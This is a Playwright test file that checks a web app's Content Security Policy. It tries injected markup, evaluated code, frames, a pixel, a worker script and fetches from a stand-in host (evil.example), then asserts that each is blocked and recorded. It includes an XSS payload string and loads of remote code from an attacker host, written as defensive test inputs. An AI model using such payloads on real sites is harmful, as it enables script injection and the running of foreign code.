import type { BrowserContext, Worker } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { openSignedIn } from './page-actions.ts';
import { readCompanyPage, readOfferingPage } from './records.ts';
import { tour } from './tour.ts';

// The tour opens a company that doesn't exist.
test.use({ loadsCatalogue: true, failuresExpected: true });

/** Collects what the policy of any page or dedicated worker in this context blocks from now on. */
async function recordViolations(context: BrowserContext): Promise<readonly string[]> {
  const violations: string[] = [];
  await context.exposeFunction('recordViolation', (text: string) => void violations.push(text));
  await context.addInitScript(() => {
    // Shared workers can't be observed, so make every page start a dedicated one.
    Reflect.deleteProperty(window, 'SharedWorker');
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      const record: unknown = Reflect.get(window, 'recordViolation');
      if (typeof record === 'function') record(`page: ${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
  const watchWorker = (worker: Worker) => {
    worker.on('console', (message) => void violations.push(`worker: ${message.text()}`));
    worker
      .evaluate(() =>
        self.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
          // oxlint-disable-next-line no-console -- the only way out of a worker.
          console.error(violatedDirective, blockedURI),
        ),
      )
      // A worker may end with its page before it is observed.
      .catch(() => {});
  };
  context.on('page', (page) => page.on('worker', watchWorker));
  for (const page of context.pages()) page.on('worker', watchWorker);
  return violations;
}

test('the policy blocks markup, inline scripts, evaluated code, frames and foreign addresses, and each is recorded @full', async ({
  browser,
  service,
}) => {
  // Use a separate context, because blocked content counts as an error in the shared one.
  const context = await browser.newContext();
  const violations = await recordViolations(context);
  const page = await context.newPage();
  await openSignedIn(page, `${service.url}/companies`);
  await expect.poll(() => page.workers().length).toBe(1);
  await page.evaluate(
    () =>
      // Run this in the page's own task, because code evaluated by Playwright may use `eval` whatever the policy
      // says.
      new Promise<void>((resolve) => {
        const attempt = (action: () => void) => {
          try {
            action();
          } catch {
            // Ignore the error: the violation is recorded.
          }
        };
        setTimeout(() => {
          const markup = '<img src=x onerror="window.hacked = true">';
          attempt(() => (document.createElement('div').innerHTML = markup));
          // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to block it.
          attempt(() => new Function('window.hacked = true')());
          attempt(() => new Worker('https://evil.example/worker.js'));
          for (const [name, url] of [
            ['iframe', 'https://evil.example/'],
            ['img', 'https://evil.example/pixel.png'],
          ] as const)
            document.body.append(Object.assign(document.createElement(name), { src: url }));
          fetch('https://evil.example/').catch(() => {});
          resolve();
        }, 0);
      }),
  );
  await page.workers()[0]?.evaluate(() => fetch('https://evil.example/').catch(() => {}));
  for (const blocked of [
    'require-trusted-types-for trusted-types-sink Element innerHTML',
    'require-trusted-types-for trusted-types-sink Function',
    'require-trusted-types-for trusted-types-sink Worker constructor',
    'frame-src https://evil.example',
    'img-src https://evil.example/pixel.png',
    'connect-src https://evil.example/',
  ])
    await expect.poll(() => violations.join('\n')).toContain(`page: ${blocked}`);
  await expect.poll(() => violations.join('\n')).toMatch(/^worker: connect-src https:\/\/evil\.example/m);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await context.close();
});

test('no page violates the policy', { tag: '@full' }, async ({ page, context, service }) => {
  test.setTimeout(120_000);
  const violations = await recordViolations(context);
  const { companies } = await readCompanyPage(service, 'limit=3');
  const { offerings } = await readOfferingPage(service, 'limit=1');
  await page.goto(`${service.url}/sign-in`);
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
  await openSignedIn(page);
  const visited: string[] = [];
  const sights = { companyIds: companies.map(({ id }) => id), offeringId: offerings[0]?.id ?? '' };
  await tour(page, service.url, sights, async (place) => {
    visited.push(place);
    expect(violations, place).toEqual([]);
  });
  expect(visited.length).toBeGreaterThan(20);
  expect(page.workers()).toHaveLength(1);
});
